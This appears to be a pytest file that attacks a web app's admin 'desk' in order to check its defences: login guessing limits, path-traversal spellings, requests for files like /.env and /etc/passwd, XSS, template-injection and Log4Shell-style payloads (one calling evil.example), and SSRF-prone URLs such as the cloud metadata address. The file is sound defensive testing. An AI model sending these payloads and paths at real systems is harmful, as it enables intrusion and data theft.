"""The desk under attack: guesses, strange paths, strange words, and what every answer carries."""

from collections.abc import Callable
from itertools import product
from pathlib import Path

import pytest

from tests.conftest import House
from tests.desk.conftest import EMAIL, PASSWORD, Browser, token_in
from tests.desk.story import Story
from tracker.settings import Settings, SettingsError, may_be_fetched, read_settings
from tracker.store import accounts
from tracker.store.engine import writing
from tracker.wake import connect
from tracker.words import Role, Stage

only_sqlite = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)

NASTY = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}{% for x in ().__class__ %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "javascript:alert(1)",
)

SPELLINGS = (
    "/desk", "//desk/", "//desk/readers", "/desk//readers", "/DESK/", "/Desk/readers",
    "/desk/readers/", "/desk/readers//taro", "/desk/readers/taro/", "/desk/./readers",
    "/desk/x/../readers", "/%64esk/readers", "/desk/%72eaders", "/desk%2freaders",
    "/desk/%2e%2e/desk/readers", "/desk/readers%2ecsv", "/desk/readers.csv/",
    "/desk/readers;x", "/desk/readers.json", "/desk/readers%00", "/desk\\readers",
    "/desk/signin/../readers", "/desk/signin%2f..%2freaders", "/desk/join/../readers",
    "/desk/join/x/../../readers", "/static/../desk/readers", "/./desk/readers",
    "/desk/readers?next=/desk/signin", "/desk/audit", "/desk/accounts",
)  # fmt: skip

FILES = (
    "/.env", "/.git/config", "/.git/HEAD", "/sodate.db", "/journal.db", "/var/sodate.db",
    "/secret-key", "/build/catalogue.json", "/catalogue.json", "/static/../settings.py",
    "/static/..%2fsettings.py", "/static/%2e%2e/settings.py", "/static/....//settings.py",
    "/static//etc/passwd", "/../secret-key", "/..%2fsecret-key", "/%2e%2e/secret-key",
    "/../../secret-key", "/static/desk.css~", "/server-status", "/wp-login.php",
)  # fmt: skip


@only_sqlite
@pytest.mark.parametrize(("redis_away", "guesses"), [(False, 1000), (True, 100)])
def test_a_thousand_guesses_are_a_dozen_and_lock_the_real_person_out_for_no_longer(
    make_house: Callable[..., House], redis_away: bool, guesses: int
) -> None:
    house = make_house()
    if redis_away:
        object.__setattr__(house.context, "redis", connect("redis://127.0.0.1:1/0"))
    with writing(house.context.engine) as connection:
        accounts.add(connection, EMAIL, PASSWORD, Role.ADMIN, house.clock())
    attacker = Browser(house.browser())
    token = token_in(attacker.get("/desk/signin").text)
    codes = []
    for n in range(guesses):
        house.clock.advance(seconds=1)
        data = {"csrf_token": token, "email": EMAIL, "password": f"guess-number-{n}"}
        codes.append(attacker.client.post("/desk/signin", data=data).status_code)
    tried = codes.count(422)
    assert tried + codes.count(429) == guesses
    assert tried <= 12, "5 at once, then each twice as late as the one before"
    elsewhere = Browser(house.browser())
    elsewhere.client.environ_base["REMOTE_ADDR"] = "203.0.113.9"
    assert elsewhere.sign_in().status_code == 303
    same_network = Browser(house.browser())
    house.clock.advance(minutes=15, seconds=1)
    assert same_network.sign_in().status_code == 303


@only_sqlite
@pytest.mark.parametrize("production", [False, True])
def test_no_spelling_of_a_path_shows_anything_without_a_sign_in(
    make_house: Callable[..., House], production: bool
) -> None:
    house = make_house(env="production" if production else "development")
    with writing(house.context.engine) as connection:
        Story(connection).reader("taro", name="山田 太郎", stage=Stage.TRUST)
    client = house.browser()
    for path, method in product(SPELLINGS, ("GET", "HEAD")):
        answer = client.open(path, method=method)
        for _ in range(4):
            assert "太郎" not in answer.text, path
            assert "taro@" not in answer.text, path
            if answer.status_code not in (301, 302, 303, 308):
                break
            assert answer.location.startswith(("/", "http://localhost/")), path
            answer = client.open(answer.location, method=method)
        assert answer.status_code in (200, 404), path
        if answer.status_code == 200:
            assert answer.request.path == "/desk/signin", path


@only_sqlite
@pytest.mark.parametrize("production", [False, True])
def test_no_file_of_the_house_is_served(make_house: Callable[..., House], production: bool) -> None:
    house = make_house(env="production" if production else "development")
    settings = house.context.settings
    settings.built_site.mkdir(parents=True)
    (settings.built_site / "index.html").write_text("the site")
    (settings.data / "secret-key").write_text("secret")
    for path in FILES:
        answer = house.browser().get(path, follow_redirects=True)
        assert answer.status_code == 404, path
        assert "secret" not in answer.text.replace("secret-key", ""), path


@only_sqlite
def test_what_readers_typed_is_shown_as_they_typed_it_and_never_run(
    house: House, browser: Browser
) -> None:
    with writing(house.context.engine) as connection:
        story = Story(connection)
        for n, value in enumerate(NASTY):
            story.reader(f"r{n}", name=value, company=value, stage=Stage.TRUST)
            story.inquiry(f"r{n}", value)
            story.move(f"r{n}", Stage.TRUST)
    for path in ("/desk/", "/desk/readers", *(f"/desk/readers/r{n}" for n in range(len(NASTY)))):
        page = browser.get(path).text
        assert "<script" not in page
        assert "<img src=x" not in page
        assert 'href="javascript:' not in page
    page = browser.get("/desk/readers").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "{{7*7}}" in page
    assert "${jndi:ldap://evil.example/a}" in page
    for n in range(len(NASTY)):
        assert browser.get(f"/desk/readers/r{n}/erasure").status_code == 200


@only_sqlite
def test_what_is_typed_into_the_desk_is_not_run_either(browser: Browser) -> None:
    invite, seen = "/desk/accounts/invitations", "/desk/accounts"
    for nasty in NASTY:
        for page in (
            browser.post(invite, seen=seen, email=nasty, role="viewer").text,
            browser.client.get("/desk/readers", query_string={"q": nasty}).text,
            browser.client.get("/desk/signin", query_string={"next": nasty}).text,
        ):
            assert "<script" not in page
            assert "<img src=x" not in page


@only_sqlite
def test_every_answer_of_the_desk_is_kept_by_nobody_and_framed_by_nobody(
    house: House, browser: Browser, stranger: Browser
) -> None:
    pages = ("", "readers", "readers/none", "diagnosis", "account", "accounts", "audit", "nothing")
    for who in (browser, stranger):
        for page in pages:
            answer = who.client.get(f"/desk/{page}")
            if page == "nothing":
                continue  # no page of the desk; the site answers
            assert answer.headers["Cache-Control"] == "no-store", page
            policy = answer.headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy
            assert "frame-ancestors 'none'" in policy
            assert "unsafe" not in policy
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert "Strict-Transport-Security" not in answer.headers, "not over http"
            assert "Access-Control-Allow-Origin" not in answer.headers


@only_sqlite
def test_over_https_the_cookie_is_bound_to_this_host_and_https_is_remembered(
    make_house: Callable[..., House],
) -> None:
    house = make_house(env="production", base_url="https://example.jp")
    with writing(house.context.engine) as connection:
        accounts.add(connection, EMAIL, PASSWORD, Role.ADMIN, house.clock())
    client = house.browser()
    where = {"base_url": "https://example.jp"}
    page = client.get("/desk/signin", **where)
    data = {"csrf_token": token_in(page.text), "email": EMAIL, "password": PASSWORD}
    foreign = {"headers": {"Referer": "https://evil.example/"}}
    assert client.post("/desk/signin", data=data, **where, **foreign).status_code == 400
    own = {"headers": {"Referer": "https://example.jp/desk/signin"}}
    answer = client.post("/desk/signin", data=data, **where, **own)
    assert answer.status_code == 303
    cookie = answer.headers["Set-Cookie"]
    assert cookie.startswith("__Host-sodate_desk=")
    for part in ("Secure", "HttpOnly", "SameSite=Lax", "Path=/"):
        assert part in cookie.split("; ")
    assert "Domain" not in cookie
    for path in ("/desk/", "/healthz", "/nothing/at/all"):
        answer = client.get(path, **where)
        assert answer.headers["Strict-Transport-Security"] == "max-age=31536000"


@pytest.mark.parametrize("keys", ["", " , ", "short", "long-enough-key-for-it,short"])
def test_production_does_not_start_without_keys_of_its_own(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, keys: str
) -> None:
    from tracker.app import create_app

    monkeypatch.setenv("SODATE_ENV", "production")
    monkeypatch.setenv("SODATE_BASE_URL", "https://example.jp")
    monkeypatch.setenv("SODATE_DATA", str(tmp_path))
    monkeypatch.setenv("SODATE_SECRET_KEYS", keys)
    with pytest.raises(SettingsError, match="SODATE_SECRET_KEYS"):
        create_app(read_settings())
    assert not (tmp_path / "secret-key").exists()


def test_two_houses_never_share_a_key(tmp_path: Path) -> None:
    assert Settings(data=tmp_path / "a").keys != Settings(data=tmp_path / "b").keys


@pytest.mark.parametrize(
    ("url", "development", "production"),
    [
        ("https://login.example.jp/tenant", True, True),
        ("https://10.0.0.5/realms/firm", True, True),  # the operator's own choice
        ("http://login.example.jp", False, False),
        ("http://127.0.0.1:9000", True, False),
        ("http://localhost:9000/x", True, False),
        ("http://[::1]:9000", True, False),
        ("http://169.254.169.254/latest", False, False),
        ("http://[::ffff:169.254.169.254]/", False, False),
        ("http://127.0.0.1.nip.example/", False, False),
        ("http://localhost@evil.example/", False, False),
        ("https://user:secret@login.example.jp", False, False),
        ("ftp://login.example.jp", False, False),
        ("file:///etc/passwd", False, False),
        ("//login.example.jp", False, False),
        ("https://", False, False),
        ("https://[bad", False, False),
        ("nonsense", False, False),
    ],
)
def test_other_servers_are_asked_over_https_alone(
    url: str, development: bool, production: bool
) -> None:
    assert may_be_fetched(url, production=False) is development
    assert may_be_fetched(url, production=True) is production


def test_a_sign_in_provider_that_is_not_https_is_refused_at_the_start(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SODATE_OIDC_ISSUER", "http://login.example.jp")
    with pytest.raises(SettingsError, match=r"SODATE_OIDC_ISSUER.*https"):
        read_settings()
    monkeypatch.setenv("SODATE_OIDC_ISSUER", "https://login.example.jp")
    with pytest.raises(SettingsError, match="SODATE_OIDC_CLIENT_ID"):
        read_settings()
    monkeypatch.setenv("SODATE_OIDC_CLIENT_ID", "sodate")
    assert read_settings().oidc_issuer == "https://login.example.jp"
